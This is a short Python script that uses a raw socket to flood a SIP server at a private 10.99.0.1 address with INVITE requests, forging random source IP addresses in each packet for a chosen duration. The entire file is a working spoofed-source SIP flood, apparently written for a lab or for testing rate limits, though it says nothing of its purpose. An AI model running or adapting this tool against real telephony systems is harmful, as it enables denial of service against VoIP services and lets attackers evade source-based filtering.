import socket,struct,random,time,sys
s=socket.socket(socket.AF_INET,socket.SOCK_RAW,socket.IPPROTO_RAW)
MODE=sys.argv[2] if len(sys.argv)>2 else 'any'; dur=float(sys.argv[1]); t0=time.time(); n=0
dst=socket.inet_aton('10.99.0.1')
while time.time()-t0<dur:
    a=random.getrandbits(24); src=(bytes([10,99,7,(a&253)+1]) if MODE=='24' else bytes([10,(a>>16)&255 or 1,(a>>8)&255,a&255 or 1])); sip='.'.join(map(str,src))
    b=f'v=0\r\no=- 1 1 IN IP4 {sip}\r\ns=-\r\nc=IN IP4 {sip}\r\nt=0 0\r\nm=audio 4000 RTP/AVP 8\r\n'
    m=(f'INVITE sip:96315@10.99.0.1 SIP/2.0\r\nVia: SIP/2.0/UDP {sip}:5060;branch=z9hG4bK{n}\r\nMax-Forwards: 70\r\nFrom: <sip:x@{sip}>;tag={n}\r\nTo: <sip:96315@10.99.0.1>\r\nCall-ID: sp{n}\r\nCSeq: 1 INVITE\r\nContact: <sip:x@{sip}:5060>\r\nContent-Type: application/sdp\r\nContent-Length: {len(b)}\r\n\r\n{b}').encode()
    udp=struct.pack('>HHHH',5060,5070,8+len(m),0)+m
    ip=struct.pack('>BBHHHBBH4s4s',0x45,0,20+len(udp),n&0xffff,0,64,17,0,src,dst)
    s.sendto(ip+udp,('10.99.0.1',0)); n+=1
print('spoofed',n)
